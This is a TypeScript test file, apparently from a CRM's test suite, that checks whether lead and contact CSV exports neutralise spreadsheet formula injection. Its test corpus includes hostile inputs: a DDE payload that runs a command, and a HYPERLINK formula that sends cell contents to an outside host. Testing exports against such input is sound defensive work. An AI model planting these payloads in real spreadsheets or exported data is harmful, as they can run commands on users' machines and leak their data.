import { parse } from 'csv-parse/sync'
import { randomUUID } from 'node:crypto'

import type { Client } from './client.js'
import type { Fault } from './fault.js'

import { expectOK } from './client.js'
import { createLead } from './leads.js'

const STARTERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const BEFORE = ['', ' ', '"', "'", ',', ';', '\u00A0', '\u200B', '\u3000']

const CORPUS = [
  ...STARTERS.flatMap((starter) => BEFORE.map((before) => `${before}${starter}1+1`)),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?x="&A1,"Click")',
  '"=1+1"',
  '=1+1";=2+2',
  '\u0000=1+1',
]

/** Behind whatever a spreadsheet may cut off, or right at the start. */
const startsFormula = (cell: string): boolean =>
  /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r\n]/.test(cell)

const createLeads = async ({ client, mark }: { client: Client; mark: string }): Promise<void> => {
  for (const text of CORPUS) {
    await createLead({
      client,
      data: {
        companyName: `${text} ${mark}`,
        contactName: text,
        lostReason: text,
        notes: text,
        stage: 'closed_lost',
        tags: [text],
        wonReason: text,
      },
    })
  }
}

const createContacts = async ({
  client,
  mark,
}: {
  client: Client
  mark: string
}): Promise<void> => {
  for (const [index, text] of CORPUS.entries()) {
    expectOK(
      await client.send({
        body: {
          email: `${mark}-${index}@example.com`,
          emailConsentSource: text,
          firstName: text,
          jobTitle: text,
          lastName: text,
          notes: text,
          tags: [text],
        },
        method: 'POST',
        path: '/crm-contacts',
      }),
    )
  }
}

const exportRows = async ({
  client,
  path,
}: {
  client: Client
  path: string
}): Promise<Record<string, string>[]> =>
  parse(expectOK(await client.send<string>({ path })), { bom: true, columns: true })

export const H5: Fault = {
  id: 'H5',
  does: `${CORPUS.length} formulas in every text field of a lead and of a contact, exported as CSV`,
  goal: 'every lead and contact exported, no cell starts a formula',
  run: async ({ world: open }) => {
    const world = await open()
    const client = await world.signIn()
    const mark = randomUUID()
    await createLeads({ client, mark })
    await createContacts({ client, mark })
    const leads = await exportRows({ client, path: `/crm/leads/export?q=${mark}` })
    const contacts = await exportRows({ client, path: `/crm/contacts/export?q=${mark}` })
    const rows = [...leads, ...contacts]
    const cells = rows.flatMap((row) => Object.values(row))
    const bad = cells.filter(startsFormula)
    return {
      details: bad.slice(0, 5).map((cell) => JSON.stringify(cell)),
      figure: `${leads.length} leads, ${contacts.length} contacts, ${cells.length} cells, ${bad.length} start a formula`,
      isReached:
        leads.length === CORPUS.length && contacts.length === CORPUS.length && bad.length === 0,
    }
  },
}
